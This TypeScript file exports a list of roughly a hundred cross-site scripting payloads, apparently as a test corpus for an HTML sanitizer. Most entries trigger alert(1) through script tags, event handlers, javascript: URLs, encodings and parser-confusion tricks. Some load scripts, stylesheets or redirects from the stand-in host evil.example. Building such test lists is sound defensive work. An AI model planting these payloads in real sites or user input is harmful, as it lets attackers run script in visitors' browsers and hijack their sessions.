/** A hundred ways in which people have made browsers run text as code. */
export const PAYLOADS: readonly string[] = String.raw`
<script>alert(1)</script>
<SCRIPT SRC=https://evil.example/x.js></SCRIPT>
<script>alert(String.fromCharCode(49))</script >
<script/src=data:,alert(1)></script>
<scr<script>ipt>alert(1)</scr</script>ipt>
<script\x20type="text/javascript">alert(1);</script>
<script>/*<!--*/alert(1)//--></script>
<svg><script>alert(1)</script></svg>
<svg><script href=data:,alert(1) /></svg>
<math><script>alert(1)</script></math>
<img src=x onerror=alert(1)>
<img src=x onerror="alert(1)">
<img src=x onerror='alert(1)'>
<img/src=x/onerror=alert(1)>
<IMG SRC="javascript:alert(1);">
<IMG SRC=JaVaScRiPt:alert(1)>
<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>
<IMG SRC="jav&#x09;ascript:alert(1);">
<IMG """><script>alert(1)</script>">
<img src="x" srcset="x 1x" onerror=alert(1)>
<img src=x onload=alert(1) onerror=alert(1)//
<img src=x:alert(1) onerror=eval(src)>
<img src="https://evil.example/pixel.gif">
<image src=x onerror=alert(1)>
<picture><source srcset=x><img onerror=alert(1) src=x></picture>
<svg onload=alert(1)>
<svg/onload=alert(1)>
<svg onload=alert(1)//
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>click</text></a></svg>
<svg><set onbegin=alert(1) attributename=x>
<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1) />#x" />
<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></foreignObject></svg>
<svg><style><img src=x onerror=alert(1)></style></svg>
<svg><title><img src=x onerror=alert(1)></title></svg>
<svg><desc><img src=x onerror=alert(1)></desc></svg>
<math href="javascript:alert(1)">click</math>
<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>
<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>
<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>
<iframe src="javascript:alert(1)"></iframe>
<iframe srcdoc="<script>alert(1)</script>"></iframe>
<iframe src=https://evil.example/></iframe>
<iframe onload=alert(1)></iframe>
<object data="javascript:alert(1)"></object>
<object data="data:text/html,<script>alert(1)</script>"></object>
<embed src="javascript:alert(1)">
<embed src="data:image/svg+xml,<svg onload=alert(1)>">
<applet code=evil.class></applet>
<a href="javascript:alert(1)">click</a>
<a href="JaVaScRiPt:alert(1)">click</a>
<a href=" &#14; javascript:alert(1)">click</a>
<a href="java&Tab;script:alert(1)">click</a>
<a href="java&NewLine;script:alert(1)">click</a>
<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>
<a href="vbscript:alert(1)">click</a>
<a href="//evil.example">click</a>
<a onclick=alert(1) href=#>click</a>
<a style="x:expression(alert(1))">click</a>
<a href="https://evil.example" ping="https://evil.example/ping">click</a>
<p onmouseover=alert(1)>hover</p>
<p style="background:url(javascript:alert(1))">styled</p>
<p style="background:url(https://evil.example/bg.png)">styled</p>
<p onanimationstart=alert(1) style="animation:x 1s">moving</p>
<p id="x" onfocus=alert(1) tabindex=1 autofocus>focus</p>
<p/onclick=alert(1)//>slash</p>
<p title="&gt;<img src=x onerror=alert(1)>">titled</p>
<p title='"><img src=x onerror=alert(1)>'>quoted</p>
<div onpointerenter=alert(1)>point</div>
<body onload=alert(1)>
<body background="javascript:alert(1)">
<body onpageshow=alert(1)>
<html onmouseover=alert(1)>
<head><base href="https://evil.example/"></head>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=javascript:alert(1)">
<meta http-equiv="refresh" content="0;url=https://evil.example">
<link rel=stylesheet href="https://evil.example/x.css">
<link rel=import href="data:text/html,<script>alert(1)</script>">
<style>@import 'https://evil.example/x.css';</style>
<style>body{background:url("https://evil.example/x")}</style>
<input onfocus=alert(1) autofocus>
<input type=image src=x onerror=alert(1)>
<select onfocus=alert(1) autofocus><option>x</select>
<textarea onfocus=alert(1) autofocus></textarea>
<keygen onfocus=alert(1) autofocus>
<button formaction="javascript:alert(1)">click</button>
<form action="javascript:alert(1)"><input type=submit></form>
<form id=test></form><button form=test formaction=javascript:alert(1)>X</button>
<video src=x onerror=alert(1)></video>
<video><source onerror=alert(1)></video>
<audio src=x onerror=alert(1)>
<details open ontoggle=alert(1)>more</details>
<marquee onstart=alert(1)>run</marquee>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>
<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>
<!-- --!><img src=x onerror=alert(1)> -->
<![CDATA[<img src=x onerror=alert(1)>]]>
<?xml version="1.0"?><x xmlns:x="http://www.w3.org/1999/xhtml"><x:script>alert(1)</x:script></x>
`
  .trim()
  .split('\n');
